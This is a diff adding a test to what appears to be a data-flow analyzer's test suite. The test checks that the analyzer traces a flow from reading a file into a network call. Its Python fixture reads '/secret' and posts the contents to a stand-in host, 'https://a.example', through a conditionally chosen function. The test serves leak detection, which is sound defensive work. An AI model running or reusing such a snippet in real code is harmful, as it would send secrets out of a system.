@@ -132,6 +132,19 @@ it('follows data across files, and says so in the steps', async () => {
   expect(facts.find((fact) => fact.kind === 'code.flow')?.['file.path']).toBe('lib/net.py')
 })
 
+it('calls either of two functions that a condition chooses between', async () => {
+  const facts = await factsOf({
+    'a.py': `import requests
+def show(x):
+    print(x)
+def send(x):
+    requests.post("https://a.example", data=x)
+(show if quiet else send)(open("/secret").read())
+`,
+  })
+  expect(flows(facts)).toEqual(['open(/secret) -> requests.post via a.py:6 a.py:5'])
+})
+
 it('goes through the members of an object one by one, and finds what objects inside of it hold', async () => {
   const facts = await factsOf({
     'a.py': `import requests
